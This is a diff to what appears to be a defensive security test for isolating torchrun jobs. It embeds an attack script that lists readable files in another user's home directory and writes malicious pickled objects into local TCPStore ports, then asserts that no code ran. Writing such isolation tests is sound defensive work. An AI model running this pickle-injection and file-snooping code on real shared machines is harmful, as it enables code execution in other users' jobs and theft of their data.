@@ -68,7 +68,7 @@ NOBODY = 65534
 PICKLE_SECONDS = 6
 """Time in which torchrun reads the state of its rendezvous again."""
 ATTACK = """\
-import base64, contextlib, datetime, json, os, pickle, sys
+import base64, contextlib, datetime, json, os, pickle, sys, threading
 from torch.distributed import TCPStore
 
 class Code:
@@ -85,7 +85,9 @@ for folder, _, names in os.walk(home):
         with contextlib.suppress(OSError):
             open(os.path.join(folder, name), "rb").close()
             read.append(os.path.join(folder, name))
-for port in ports:
+
+def attack(port):
+    global stores
     with contextlib.suppress(Exception):
         store = TCPStore("127.0.0.1", int(port), is_master=False, wait_for_workers=False,
                          timeout=datetime.timedelta(seconds=3))
@@ -94,8 +96,16 @@ for port in ports:
             code = pickle.dumps(Code(f"{proof}/{port}-{stores}"))
             for value in (code, base64.b64encode(code)):
                 store.set(key, value)
+
+# A port of Gloo never answers what a store's client asks, and the client waits for ever.
+attacks = [threading.Thread(target=attack, args=[port], daemon=True) for port in ports]
+for each in attacks:
+    each.start()
+for each in attacks:
+    each.join(20)
 secret = [name for name in read if "/runs/" in name]
-print(json.dumps({"uid": os.getuid(), "keys": stores, "files": secret}))
+print(json.dumps({"uid": os.getuid(), "keys": stores, "files": secret}), flush=True)
+os._exit(0)
 """
 
 
@@ -201,7 +211,7 @@ def _attack(job: Callable[..., Path], cli: Cli, home: Path, instances: int) -> N
     proof.mkdir()
     proof.chmod(0o777)
     attack = [sys.executable, "-c", ATTACK, str(proof), str(home), *map(str, watch.ports)]
-    done = subprocess.run(attack, capture_output=True, text=True, timeout=120, check=True)
+    done = subprocess.run(attack, capture_output=True, text=True, timeout=300, check=True)
     shown = json.loads(done.stdout)
     time.sleep(PICKLE_SECONDS)
     assert list(proof.iterdir()) == []
